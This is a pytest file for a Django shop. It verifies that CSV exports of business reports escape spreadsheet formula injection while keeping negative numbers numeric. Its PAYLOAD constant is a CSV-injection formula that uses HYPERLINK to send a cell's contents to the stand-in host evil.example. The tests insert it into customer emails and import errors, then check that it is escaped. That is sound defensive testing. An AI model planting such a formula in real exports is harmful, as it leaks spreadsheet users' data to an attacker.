"""Every CSV export of the business reports is safe to open in a spreadsheet: a shopper's
text that starts like a formula comes out as text, numbers (negative ones too) as numbers."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from shop.common.safe_csv import FORMULA_STARTS
from shop.order.models import Order
from shop.reports.models import SalesImport
from shop.reports.services import report_facts_refresh
from tests.reports.test_views import MARCH, read_csv, reporter  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")@evil.example'
EXPORTS = [
    ("customers", [], {}),
    ("customer-detail", ["e:bob@example.com"], {}),
    ("online-share", [], {"bucket": "day"}),
    ("segments", [], {"table": "rfm"}),
    ("segments", [], {"table": "cohorts"}),
    ("lead-time", [], {}),
    ("production-cost", [], {"baseline": "2026-02"}),
]


def _assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a plain number may start with a sign


@pytest.fixture
def formula_customer(dataset):
    """Bob's guest orders under an email that is a formula (email fields do not stop it)."""
    Order.objects.filter(guest_email__iexact="bob@example.com").update(guest_email=PAYLOAD)
    report_facts_refresh()
    return f"e:{PAYLOAD.lower()}"


@pytest.mark.parametrize(("name", "args", "extra"), EXPORTS)
def test_every_report_export_is_formula_safe(
    client,
    formula_customer,
    reporter,  # noqa: F811
    name,
    args,
    extra,
):
    if name == "customer-detail":
        args = [formula_customer]
    response = client.get(
        reverse(f"business-reports:{name}", args=args), {**MARCH, **extra, "export": "csv"}
    )
    rows = read_csv(response)
    assert len(rows) > 1
    _assert_no_live_formula(rows)


def test_the_formula_email_comes_out_as_text(client, formula_customer, reporter):  # noqa: F811
    # B1 made at a loss (cost 99.00 for a 20.83 sale): bob's margin is negative.
    Order.objects.get(number="B1").lines.update(unit_cost_price=99)
    report_facts_refresh()
    rows = read_csv(client.get(reverse("business-reports:customers"), {**MARCH, "export": "csv"}))
    emails = [row[1] for row in rows[1:]]
    assert "'" + PAYLOAD.lower() in emails or "'" + PAYLOAD in emails
    margins = [row[rows[0].index("Contribution margin")] for row in rows[1:]]
    assert any(m.startswith("-") and float(m) < 0 for m in margins), "negatives stay numbers"


def test_import_errors_export_is_formula_safe(client, demo_catalogue, reporter):  # noqa: F811
    content = (
        "date,channel,reference,sku,quantity,net_amount\n"
        f'2026-03-15,boutique,B-1,"{PAYLOAD.replace(chr(34), chr(34) * 2)}",1,5\n'
    ).encode()
    client.post(
        reverse("business-reports:imports"),
        {"file": SimpleUploadedFile("sales.csv", content, content_type="text/csv")},
    )
    sales_import = SalesImport.objects.latest("pk")
    sales_import.errors = [{"line": 2, "errors": [PAYLOAD]}, *sales_import.errors]
    sales_import.save(update_fields=["errors"])
    url = reverse("business-reports:import-detail", args=[sales_import.pk])
    rows = read_csv(client.get(url, {"export": "csv"}))
    assert rows[1] == ["2", "'" + PAYLOAD]
    _assert_no_live_formula(rows)
